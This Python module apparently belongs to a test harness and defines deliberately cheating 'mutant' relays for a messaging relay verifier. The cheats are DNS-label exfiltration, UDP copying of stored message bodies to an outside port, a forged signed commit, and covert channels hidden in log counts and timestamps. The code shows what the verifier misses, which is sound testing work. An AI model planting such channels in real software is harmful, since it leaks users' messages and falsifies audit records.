"""Relays whose cheat the verifier cannot see, as a process of its own: run as relay_side.py is, by its path.

What they do lies outside of the disclosure, or in numbers that any honest relay may write. They are run so that the
limits of the claim are shown and not only told: each leaks for real (sim/mutants/unseen.py reads it), and the verdict
stays BLIND.
"""

import importlib.util
import os
import socket
import sqlite3
import sys
from collections.abc import Callable
from datetime import UTC, datetime
from hashlib import sha256
from pathlib import Path
from typing import Any, Final

from msgspec.structs import replace
from nacl.bindings import crypto_aead_xchacha20poly1305_ietf_encrypt

from relay.home import Home
from relay.log import RelayLog
from wire.codec import decode, encode
from wire.merkle import root_of
from wire.receipt import CommitHeader, commit_hash, leaf_hash
from wire.signing import SigningKey

Spoils = dict[str, Any]


def _relay_side() -> Any:
    """relay_side.py, by its path: this process has no sim/ to import it from, and must not list it as loaded."""
    spec = importlib.util.spec_from_file_location("relay_side", Path(__file__).with_name("relay_side.py"))
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


SEEN: Final = _relay_side()

DATAGRAM_BYTES: Final = 32_768
LABEL_BYTES: Final = 30
TIMED_BYTES: Final = 8
MAIL_BYTES: Final = 400
TAG_BYTES: Final = 16


def _send(spoils: Spoils, datagrams: list[bytes]) -> None:
    """Away from this machine: to the other end that the spoils name."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as outside:
        for datagram in datagrams:
            outside.sendto(datagram, ("127.0.0.1", spoils["outside"]))


def dns_lookups(home: Path, spoils: Spoils) -> None:
    """Each text as the labels of a name that is looked up at a resolver."""

    def query(number: int, text: str) -> bytes:
        data = text.encode()
        pieces = [data[at : at + LABEL_BYTES].hex().encode() for at in range(0, len(data), LABEL_BYTES)]
        name = b"".join(bytes([len(piece)]) + piece for piece in pieces)
        # RFC 1035 section 4.1: id, recursion desired, one question; type A, class IN.
        return number.to_bytes(2, "big") + b"\x01\x00\x00\x01" + bytes(6) + name + b"\x00" + b"\x00\x01\x00\x01"

    _send(spoils, [query(number, text) for number, text in enumerate(spoils["texts"])])


def copy_elsewhere(home: Path, spoils: Spoils) -> None:
    """The body of every envelope that waits, on another machine, before it can be erased here."""

    def change(db: sqlite3.Connection) -> None:
        bodies = [body for (body,) in db.execute("SELECT body FROM envelopes ORDER BY seq")]
        pieces = [body[at : at + DATAGRAM_BYTES] for body in bodies for at in range(0, len(body), DATAGRAM_BYTES)]
        _send(spoils, pieces)

    SEEN._store_change(change)


def made_up_mail(home: Path, spoils: Spoils) -> None:
    """One more commit, of an envelope that nobody sent: its body is a text under a key that is kept elsewhere."""
    key = sha256(spoils["elsewhere"].encode()).digest()
    text = spoils["texts"][-1].encode().ljust(MAIL_BYTES - TAG_BYTES, b"\0")
    body = crypto_aead_xchacha20poly1305_ietf_encrypt(text, None, bytes(24), key)
    signing_key = SigningKey(Home.open(home).load_keys().seed)
    with sqlite3.connect(home / "store.sqlite") as db:
        row = db.execute("SELECT seq, mailbox, number, expiry FROM envelopes ORDER BY seq DESC LIMIT 1").fetchone()
        seq, mailbox, number, expiry = row
        index, newest = db.execute("SELECT idx, header FROM commits ORDER BY idx DESC LIMIT 1").fetchone()
        envelope_id = os.urandom(16)
        leaf = leaf_hash(mailbox, envelope_id, expiry, number + 1, sha256(body).digest())
        header = replace(
            decode(CommitHeader, newest, "header"),
            index=index + 1,
            leaf_count=1,
            root=root_of([leaf]),
            previous=commit_hash(newest),
        )
        signature = signing_key.sign("commit", encode(header))
        db.execute("INSERT INTO commits VALUES (?, ?, ?, ?)", (index + 1, encode(header), signature, leaf))
        made_up = (seq + 1, mailbox, number + 1, envelope_id, expiry, index + 1, 0, body)
        db.execute("INSERT INTO envelopes VALUES (?, ?, ?, ?, ?, ?, ?, ?)", made_up)
    db.close()


def _log_more(lines: Callable[[datetime], list[str]]) -> None:
    class PatientLog(RelayLog):
        def checkpointed(self, pages: int) -> None:
            super().checkpointed(pages)
            for line in lines(datetime.fromtimestamp(self._time_s, UTC)):
                os.write(self._file, line.encode() + b"\n")

    SEEN._replace("RelayLog", PatientLog)


def links_in_log(home: Path, spoils: Spoils) -> None:
    """How many links stand, again and again: each number is two bytes of a text."""
    data = spoils["texts"][-1].encode()

    def lines(now: datetime) -> list[str]:
        numbers = [int.from_bytes(data[at : at + 2], "big") for at in range(0, len(data), 2)]
        return [f"{now:%Y-%m-%dT%H:%M:%SZ} linked links={number}" for number in numbers]

    _log_more(lines)


def times_in_log(home: Path, spoils: Spoils) -> None:
    """Lines that say nothing new, a second later for a one, in the same second for a zero.

    A relay that has time would wait; this one dates the lines ahead, within what clocks may differ.
    """
    data = int.from_bytes(spoils["texts"][-1].encode()[:TIMED_BYTES], "big")
    bits = [data >> at & 1 for at in reversed(range(8 * TIMED_BYTES))]

    def lines(now: datetime) -> list[str]:
        start_s, told = int(now.timestamp()), []
        for at in range(len(bits) + 1):
            time = datetime.fromtimestamp(start_s + sum(bits[:at]), UTC)
            told.append(f"{time:%Y-%m-%dT%H:%M:%SZ} linked links=0")
        return told

    _log_more(lines)


UNSEEN: Final[dict[str, Callable[[Path, Spoils], None]]] = {
    cheat.__name__.replace("_", "-"): cheat
    for cheat in (dns_lookups, copy_elsewhere, made_up_mail, links_in_log, times_in_log)
}


def main(arguments: list[str]) -> int:
    """As relay_side.py's, with these cheats."""
    SEEN.CHEATS.update(UNSEEN)
    return int(SEEN.main(arguments))


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
